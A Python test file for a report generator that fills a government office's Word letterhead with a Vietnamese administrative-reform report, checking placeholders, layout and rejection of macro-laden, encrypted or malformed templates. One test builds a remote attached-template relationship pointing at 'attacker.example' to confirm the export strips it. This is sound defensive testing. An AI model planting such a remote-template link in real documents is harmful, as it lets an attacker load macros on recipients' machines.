"""The office's own file in place of the report's head: kept as it is, filled, and looked at before."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as WordDocument
from docx.enum.section import WD_SECTION
from docx.shared import Length

from reformdesk.core import office_files, reporting, store
from reformdesk.core.report import Letterhead, Report
from reformdesk.errors import Mendable
from reformdesk.office import export, letterhead
from tests.demo import LATER, NEWEST, Said
from tests.office.letterheads import altered, bare, office_s_own, saved
from tests.office.libreoffice import SOFFICE, converted
from tests.printed import transcription

SUBJECT = "Kết quả các chỉ tiêu thống kê cải cách hành chính 6 tháng đầu năm 2024"


@pytest.fixture
def report(office: Path) -> Report:
    with store.open_workspace(office) as workspace:
        return reporting.read(workspace)


def set_in(report: Report, content: bytes) -> WordDocument:
    made = replace(report, letterhead=Letterhead("mẫu.docx", content), dated=date(2024, 7, 8))
    return Document(BytesIO(export.render("r.docx", made)))


def texts(word: WordDocument) -> list[str]:
    return [one.text for one in word.paragraphs]


def test_the_text_stands_at_its_place_and_the_file_stays_what_it_is(report: Report) -> None:
    word = set_in(report, office_s_own())
    said = texts(word)
    opening = next(place for place, one in enumerate(said) if one.startswith("Sở Nội vụ tổng hợp"))
    end = next(place for place, one in enumerate(said) if one.startswith("Trên đây là báo cáo"))
    assert said[:opening] == [SUBJECT]
    # what the office has itself is not put there again, and what is unknown stays
    assert said[end + 1] == "Nơi nhận: như trên. {{LA}}"
    assert "BÁO CÁO" not in said
    assert "{{NOI_DUNG}}" not in said
    assert [cell.text for cell in word.tables[0].rows[0].cells] == ["tỉnh Minh Sơn", "Minh Sơn, ngày 08/7/2024"]
    letter, annex = word.sections
    assert letter.header.paragraphs[0].text == "VĂN PHÒNG Sở Nội vụ"
    assert letter.footer.paragraphs[0].text == "Kỳ: 6 tháng đầu năm 2024"
    assert round(Length(letter.left_margin or 0).mm) == 32
    assert word.styles["Normal"].font.name == "Arial"
    assert round(Length(annex.page_width or 0).mm) == 297
    assert "VĂN PHÒNG" not in annex.header.paragraphs[0].text
    assert annex.footer.paragraphs[0].text == ""
    _, *tables = word.tables
    assert [[[cell.text for cell in row.cells] for row in table.rows] for table in tables] == [
        *transcription().values()
    ]


def test_without_a_place_the_text_goes_to_the_end_with_title_and_signature(report: Report) -> None:
    word = set_in(report, bare())
    said = texts(word)
    assert said[:3] == ["Dòng đầu", "BÁO CÁO", SUBJECT]
    assert word.tables[0].rows[0].cells[0].text.startswith("Nơi nhận:")
    assert word.sections[0].header.paragraphs[0].text == "SỞ NỘI VỤ"


def test_a_place_at_the_end_of_a_section_or_alone_in_a_cell_leaves_both_whole(report: Report) -> None:
    word = Document()
    word.add_section(WD_SECTION.NEW_PAGE)
    # the paragraph that the section ends in
    word.paragraphs[0].add_run("{{NOI_DUNG}}")
    word.add_paragraph("Trang sau")
    made = set_in(report, saved(word))
    said = texts(made)
    assert len(made.sections) == 3
    assert said.index("BÁO CÁO") < said.index("Trang sau") < said.index("Phụ lục")
    word = Document()
    word.add_table(rows=1, cols=1).rows[0].cells[0].text = "{{ NOI_DUNG }}"
    cell = set_in(report, saved(word)).tables[0].rows[0].cells[0]
    assert cell.paragraphs[0].text == "BÁO CÁO"
    assert cell.paragraphs[-1].text == ""


@pytest.mark.parametrize(
    "pieces", [["{{TIEU_DE}}"], ["{{", "TIEU_DE", "}}"], ["a {", "{TIEU", "_DE}", "} b"], [*"{{TIEU_DE}}"]]
)
def test_a_placeholder_is_found_however_word_splits_it(pieces: list[str]) -> None:
    word = Document()
    paragraph = word.add_paragraph()
    for piece in pieces:
        paragraph.add_run(piece)
    assert letterhead.fill(word, {"TIEU_DE": "T"}) == {"TIEU_DE"}
    assert paragraph.text == "".join(pieces).replace("{{TIEU_DE}}", "T")


def test_words_of_a_stranger_become_no_placeholder() -> None:
    word = Document()
    word.add_paragraph("{{TIEU_DE}} {{KY_BAO_CAO}}")
    letterhead.fill(word, {"TIEU_DE": "{{KY_BAO_CAO}}", "KY_BAO_CAO": "{{TIEU_DE}}"})
    assert texts(word) == ["{{KY_BAO_CAO}} {{TIEU_DE}}"]


def same(_: str, content: bytes) -> bytes:
    return content


def without_document(name: str, content: bytes) -> bytes | None:
    return None if name == "word/document.xml" else content


def torn(name: str, content: bytes) -> bytes:
    return content[:300] if name == "word/document.xml" else content


def macro(name: str, content: bytes) -> bytes:
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    other = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return content.replace(kind, other) if name == "[Content_Types].xml" else content


def with_entity(name: str, content: bytes) -> bytes:
    declared = b'standalone="yes"?>\n<!DOCTYPE a [<!ENTITY x "y">]>'
    return content.replace(b"standalone='yes'?>", declared).replace(b'standalone="yes"?>', declared)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "letterhead-unreadable"),
        (b"%PDF-1.7", "letterhead-unreadable"),
        (bare()[:2000], "letterhead-unreadable"),
        (altered(bare(), without_document), "letterhead-unreadable"),
        (altered(bare(), torn), "letterhead-unreadable"),
        (altered(bare(), with_entity), "letterhead-unreadable"),
        (altered(bare(), macro), "letterhead-macros"),
        (altered(bare(), same, ("word/vbaProject.bin", b"x")), "letterhead-macros"),
        (altered(bare(), same, ("word/activeX/activeX1.xml", b"<a/>")), "letterhead-macros"),
        (altered(bare(), same, ("word/media/a.bin", bytes(65 * 1024 * 1024))), "letterhead-too-large"),
        (OLE, "letterhead-old"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "letterhead-locked"),
    ],
)
def test_what_cannot_be_a_letterhead_is_named(content: bytes, code: str, report: Report) -> None:
    with pytest.raises(Mendable, match=code) as refused:
        letterhead.examine(Letterhead("mẫu.docx", content))
    assert refused.value.params == {"file": "mẫu.docx"}
    with pytest.raises(Mendable, match=code):
        set_in(report, content)


def test_the_template_that_it_was_made_from_is_forgotten(report: Report) -> None:
    namespace = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

    def made_from(name: str, content: bytes) -> bytes:
        if name == "word/settings.xml":
            place = content.index(b">", content.index(b"<w:settings")) + 1
            return content[:place] + b"<w:attachedTemplate " + namespace + b' r:id="rIdT"/>' + content[place:]
        return content

    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    content = altered(bare(), made_from, ("word/_rels/settings.xml.rels", relations))
    made = replace(report, letterhead=Letterhead("mẫu.docx", content))
    assert not [name for name, data in _parts(export.render("r.docx", made)) if b"attacker" in data]


def _parts(content: bytes) -> list[tuple[str, bytes]]:
    found: list[tuple[str, bytes]] = []

    def keep(name: str, data: bytes) -> bytes:
        found.append((name, data))
        return data

    altered(content, keep)
    return found


def test_the_command_sets_it_in_a_file_and_otherwise_in_the_kept_one(
    office: Path, tmp_path: Path, command: Callable[..., Said]
) -> None:
    file = tmp_path / "Mẫu của Sở.docx"
    file.write_bytes(office_s_own())
    target = tmp_path / "r.docx"
    base = ("report", "--workspace", office, "--to", target, "--rounds", NEWEST)

    def headers() -> list[str]:
        return [one.text for one in Document(str(target)).sections[0].header.paragraphs]

    assert command(*base, "--letterhead", file).code == 0
    assert headers() == ["VĂN PHÒNG Sở Nội vụ"]
    assert command(*base).code == 0
    assert headers() != ["VĂN PHÒNG Sở Nội vụ"]
    with store.open_workspace(office) as workspace:
        office_files.put(workspace, office_files.LETTERHEAD, file.name, bare(), LATER)
        assert reporting.letterhead(workspace) == Letterhead(file.name, bare())
    assert command(*base).code == 0
    assert headers() == ["SỞ NỘI VỤ"]
    said = command("report", "--workspace", office, "--to", tmp_path / "r.xlsx", "--letterhead", file)
    assert said.code == 2
    broken = tmp_path / "hỏng.docx"
    broken.write_bytes(b"PK")
    before = target.read_bytes()
    said = command(*base, "--letterhead", broken)
    assert (said.code, "hỏng.docx" in said.err, target.read_bytes()) == (1, True, before)
    assert command(*base, "--letterhead", tmp_path / "nowhere.docx").code == 1


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (Debian: libreoffice-writer-nogui) is not installed")
def test_libreoffice_prints_it(report: Report, tmp_path: Path) -> None:
    path = tmp_path / "r.docx"
    made = replace(report, letterhead=Letterhead("mẫu.docx", office_s_own()))
    path.write_bytes(export.render("r.docx", made))
    text = converted(path, "txt:Text (encoded):UTF8", tmp_path).read_text(encoding="utf-8-sig")
    assert text.index(SUBJECT) < text.index("I. TÌNH HÌNH TỔNG HỢP SỐ LIỆU") < text.index("Phụ lục")
